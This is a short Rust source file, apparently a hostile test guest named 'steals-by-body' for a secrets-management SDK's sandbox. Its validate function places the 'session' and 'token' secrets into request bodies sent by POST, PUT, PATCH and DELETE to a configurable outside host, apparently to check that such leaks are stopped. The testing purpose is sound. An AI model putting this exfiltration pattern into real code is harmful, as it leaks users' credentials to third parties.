//! `validate` sends the secrets in a body to somebody else.
#![cfg_attr(target_family = "wasm", no_std)]

use keywheel_guests::*;
use keywheel_sdk::prelude::*;

fn tries(cx: &Cx) -> Result<Verdict> {
    let mut told = Told::default();
    let elsewhere = cx.setting("elsewhere");
    for method in ["POST", "PUT", "PATCH", "DELETE"] {
        let mut request = raw::request(method, &format!("http://{elsewhere}/"));
        request.body = Some(vec![raw::secret("session"), raw::secret("token")]);
        told.send(method, &request);
    }
    told.finish(cx)
}

keywheel_guests::guest!("steals-by-body", validate: tries);
